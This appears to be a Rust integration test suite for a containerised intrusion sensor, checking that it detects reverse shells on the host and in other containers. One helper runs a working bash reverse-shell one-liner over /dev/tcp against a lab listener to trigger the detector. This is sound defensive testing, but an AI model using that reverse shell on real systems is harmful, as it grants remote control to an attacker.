//! The sensor in a container, started by the scripts that are published: it sees the host and other containers, and its own
//! container is no noise.

use super::scene::{SHELL, closed, shell_after};
use super::{Case, Tag, tagged};
use crate::actor::step::{How, Outcome, Step, connect, connect_by, exec, report};
use crate::expect::{Expect, field};
use crate::finished::Finished;
use crate::lab::{Lab, parent_of, which};
use crate::parent::ends_with_parent;
use crate::player::Guard;
use crate::podman::{Container, Podman};
use crate::sensor::{ALERTS, Sensor};
use anyhow::{Context, Result, bail, ensure};
use serde_json::{Value, json};
use std::fs::File;
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

pub(super) const CASES: &[Case] = &[
    tagged("container: privileged, it sees shells of the host and of another container", &[Tag::Own], |lab| {
        sees_everything(lab, PRIVILEGED)
    }),
    tagged("container: with the least capabilities it sees the same", &[Tag::Own], |lab| sees_everything(lab, LEAST)),
    tagged("container: without the host's processes it says so, and still sees shells", &[Tag::Own], without_processes),
    tagged("container: probes see whether the sensor is at work", &[Tag::Own], probed),
    tagged("container: nothing in its own container is worth a record", &[Tag::Own, Tag::Alone], no_noise),
];

/// The published scripts, as the user gets them.
const PRIVILEGED: &str = include_str!("../../../deploy/container/privileged.sh");
const LEAST: &str = include_str!("../../../deploy/container/least-capabilities.sh");

/// What the scripts call the container.
const NAME: &str = "sensor";
/// The program in the image.
const PROGRAM: &str = "/usr/bin/sensor";
/// A user that the host has a name for, and that is not root.
const USER: u32 = 1;
/// Nobody, whom root's processes are none of, and who is not of the sensor's user either.
const NOBODY: u32 = 65534;

fn knock(lab: &Lab) -> Step {
    connect_by(closed(lab), How::Plain, Outcome::Refused)
}

/// A sensor that a script has started, and its container.
fn start(lab: &Lab, podman: &Podman, script: &str, arguments: &[&str]) -> Result<(Sensor, Container)> {
    let directory = lab.directory().join("sensor");
    std::fs::create_dir_all(&directory)?;
    let path = directory.join("start.sh");
    std::fs::write(&path, script)?;
    let mut command = podman.command("sh", &[])?;
    command.arg(path).args(["--log-format=json", "--format=json"]).args(arguments);
    let sensor = Sensor::start_command(command, &directory, File::create(directory.join(ALERTS))?.into())?;
    let container = podman.container(NAME)?;
    Ok((sensor.in_process(container.pid), container))
}

/// A root directory with the host's bash and the libraries that it needs; bash's path in it.
fn small_root(root: &Path) -> Result<PathBuf> {
    let bash = which("bash")?.canonicalize()?;
    let libraries = Finished::of(Command::new(which("ldd")?).arg(&bash))?;
    libraries.expect(0)?;
    let libraries = libraries.output.split_whitespace().filter(|word| word.starts_with('/')).map(PathBuf::from);
    for file in libraries.chain([bash.clone()]) {
        let copy = root.join(file.strip_prefix("/")?);
        std::fs::create_dir_all(copy.parent().context("no directory")?)?;
        std::fs::copy(&file, &copy).with_context(|| file.display().to_string())?;
    }
    Ok(bash)
}

/// An interactive bash in another container, which has connected to the lab's far side.
struct Inside {
    /// Ends it when dropped.
    _podman: Guard,
    /// Its own process is the shell's parent.
    container: Container,
    pid: u32,
    file: PathBuf,
    near: SocketAddr,
    far: SocketAddr,
    _connection: TcpStream,
}

impl Inside {
    fn new(lab: &Lab, podman: &Podman) -> Result<Self> {
        let root = lab.directory().join("root");
        let file = small_root(&root)?;
        let listener = lab.listen(lab.remote())?;
        let far = listener.address;
        let script =
            format!("bash -c 'exec 3<>/dev/tcp/{}/{}; exec bash -i <&3 >&3 2>&3' & wait", far.ip(), far.port());
        let mut command = podman.command("podman", &["run", "--rm", "--name=shell"])?;
        command.arg(format!("--user={USER}:{USER}")).arg(format!("--network=ns:/proc/{}/ns/net", lab.init_pid()));
        command.arg("--rootfs").arg(&root).arg(&file).args(["-c", &script]);
        let output = || File::options().create(true).append(true).open(lab.directory().join("output"));
        command.stdin(Stdio::null()).stdout(output()?).stderr(output()?);
        ends_with_parent(&mut command);
        let mut process = Guard::spawn(&mut command)?;
        let (connection, near) = listener.accept_unless(|| match process.ended()? {
            Some(status) => bail!("the container ended with {status}: {}", lab.output()),
            None => Ok(()),
        })?;
        let container = podman.container("shell")?;
        let pid = crate::wait::until("the shell in the container", || container.child(SHELL))?;
        Ok(Self { _podman: process, container, pid, file, near, far, _connection: connection })
    }

    /// The alert about it.
    fn alert(&self) -> Result<Expect> {
        Ok(Expect::alert(self.pid, &self.file, SHELL)
            .egress(self.near, self.far)
            .parent(self.container.pid, "bash")
            .field("process.parent.args.1", "-c")
            .field("container.id", &self.container.id)
            .field("user.id", USER.to_string())
            .field("user.name", user_name()?))
    }
}

impl Container {
    /// The child of its first process that has these arguments.
    fn child(&self, args: &[&str]) -> Result<Option<u32>> {
        let line: Vec<u8> = args.iter().flat_map(|arg| arg.bytes().chain([0])).collect();
        for entry in std::fs::read_dir("/proc")? {
            let Some(pid) = entry?.file_name().to_str().and_then(|name| name.parse().ok()) else { continue };
            let found = std::fs::read(format!("/proc/{pid}/cmdline")).is_ok_and(|found| found == line);
            if found && parent_of(pid) == Some(self.pid) {
                return Ok(Some(pid));
            }
        }
        Ok(None)
    }
}

/// The name that the host gives the user.
fn user_name() -> Result<String> {
    let users = std::fs::read_to_string("/etc/passwd")?;
    let number = USER.to_string();
    let line = users.lines().find(|line| line.split(':').nth(2) == Some(&number)).context("no such user")?;
    Ok(line.split(':').next().unwrap_or_default().to_owned())
}

/// What the documents say of the host is the host's.
fn on_this_host(expect: Expect) -> Result<Expect> {
    let system = rustix::system::uname();
    let release = std::fs::read_to_string("/etc/os-release")?;
    let id = release.lines().find_map(|line| line.strip_prefix("ID=")).context("/etc/os-release")?;
    Ok(expect
        .field("host.id", std::fs::read_to_string("/etc/machine-id")?.trim())
        .field("host.hostname", system.nodename().to_string_lossy())
        .field("host.name", system.nodename().to_string_lossy())
        .field("host.os.platform", id.trim_matches('"'))
        .field("host.os.kernel", system.release().to_string_lossy()))
}

/// A shell of the host that had connected before the sensor started, a later one, and one in another container.
fn sees_everything(lab: &Lab, script: &str) -> Result<()> {
    let podman = Podman::new(lab)?;
    let (far, bash) = (lab.listen(lab.remote())?, lab.program("bash")?);
    let steps = vec![Step::User(NOBODY), connect(far.address), report("connected"), Step::Wait, exec(&bash, SHELL)];
    let mut player = lab.play(&bash, &["bash"], steps)?;
    let (_connection, near) = far.accept()?;
    player.reached("connected")?;
    let (sensor, own) = start(lab, &podman, script, &[])?;
    player.go()?;
    let pid = player.reached("end")?.pid;
    let older = Expect::alert(pid, &bash, SHELL).egress(near, far.address).field("sensor.found_at_start", true);
    let host = shell_after(lab, vec![knock(lab)])?;
    let inside = Inside::new(lab, &podman)?;
    let expected = [
        on_this_host(host.alert().field("container", Value::Null).field("user.id", "0").field("user.name", "root"))?,
        on_this_host(inside.alert()?)?,
        older.field("container", Value::Null).field("user.id", NOBODY.to_string()),
    ];
    lab.expect_of(&sensor, &expected)?;
    let noise = sensor.alerts(|alert| field(alert, "container.id") == Some(&json!(own.id)))?;
    ensure!(noise.is_empty(), "its own container alarms it: {noise:?}");
    ensure!(!sensor.said("not the host's")?, "it does not see every process: {}", sensor.log_tail());
    sensor.stop_cleanly().map(drop)
}

/// Shells are seen all the same, with what the kernel tells of them.
fn without_processes(lab: &Lab) -> Result<()> {
    let script = PRIVILEGED.replace("    --pid=host \\\n", "");
    ensure!(script != PRIVILEGED, "the published script has no --pid=host");
    let podman = Podman::new(lab)?;
    let (sensor, _) = start(lab, &podman, &script, &[])?;
    let shell = shell_after(lab, vec![knock(lab)])?;
    lab.expect_of(&sensor, &[shell.alert()])?;
    let alerts = sensor.alerts(|alert| field(alert, "process.pid") == Some(&json!(shell.pid())))?;
    let degraded = alerts.first().and_then(|alert| field(alert, "sensor.degraded")).cloned().unwrap_or_default();
    ensure!(degraded.to_string().contains("/proc is not the host's"), "sensor.degraded: {degraded}");
    ensure!(sensor.said("--pid=host")?, "it does not say what to do: {}", sensor.log_tail());
    sensor.stop_cleanly().map(drop)
}

/// As Kubernetes asks: by a command in the container.
fn probed(lab: &Lab) -> Result<()> {
    const ALIVE: &str = "/run/alive";
    let podman = Podman::new(lab)?;
    let arguments = ["--host-name=node-1", &format!("--heartbeat={ALIVE}")];
    let (sensor, _) = start(lab, &podman, LEAST, &arguments)?;
    let alive = || Finished::of(&mut podman.command("podman", &["exec", NAME, PROGRAM, "alive", ALIVE])?);
    alive()?.expect(0)?;
    let shell = shell_after(lab, vec![knock(lab)])?;
    lab.expect_of(&sensor, &[shell.alert().field("host.hostname", "node-1").field("host.name", "node-1")])?;
    alive()?.expect(0)?;
    sensor.stop_cleanly().map(drop)
}

/// Programs that are executed in its container, again and again, send nothing. That the sensor was awake is shown by the two shells
/// that come last: the test's and the canary.
fn no_noise(lab: &Lab) -> Result<()> {
    const TIMES: usize = 10;
    const EVENTS: &str = "/run/events.ndjson";
    let podman = Podman::new(lab)?;
    let (sensor, own) = start(lab, &podman, PRIVILEGED, &[&format!("--events={EVENTS}")])?;
    for _ in 0..TIMES {
        Finished::of(&mut podman.command("podman", &["exec", NAME, PROGRAM, "version"])?)?.expect(0)?;
    }
    let shell = shell_after(lab, vec![knock(lab)])?;
    lab.expect_of(&sensor, &[shell.alert()])?;
    let alerts = sensor.alerts(|alert| field(alert, "container.id") == Some(&json!(own.id)))?;
    ensure!(alerts.is_empty(), "its own container alarms it: {alerts:?}");
    // It is in memory and goes with the container, so it is read while that runs: until the canary's events, the last, are there.
    let events = crate::wait::until("the events of both shells", || {
        let text = std::fs::read_to_string(format!("/proc/{}/root{EVENTS}", own.pid))?;
        let whole = text.rfind('\n').and_then(|end| text.get(..end)).unwrap_or_default();
        let events = whole.lines().map(serde_json::from_str).collect::<Result<Vec<Value>, _>>()?;
        let of_lab = events.iter().filter(|event| of_lab(lab, event)).count();
        Ok((of_lab >= 4).then_some(events))
    })?;
    let counters = sensor.stop_cleanly()?;
    let sent: u64 = ["connect", "accept", "graft", "exec"].iter().map(|hook| counters.sum(hook, "sent_")).sum();
    let ours = events.iter().filter(|event| of_lab(lab, event)).count();
    let noise: Vec<_> =
        events.iter().filter(|event| field(event, "process.executable") == Some(&json!(PROGRAM))).collect();
    ensure!(noise.is_empty(), "its own container sends records: {noise:?}");
    ensure!(ours == 4, "{ours} events are about this test, 4 were expected: {events:?}");
    // More were sent only if the host itself did something that matters.
    ensure!(sent == 4 || events.len() > 4, "{sent} records were sent, 4 were expected: {counters:?}");
    Ok(())
}

/// Whether an event is about a program of this lab.
fn of_lab(lab: &Lab, event: &Value) -> bool {
    let directory = lab.directory().to_string_lossy();
    field(event, "process.executable").and_then(Value::as_str).is_some_and(|file| file.starts_with(&*directory))
}
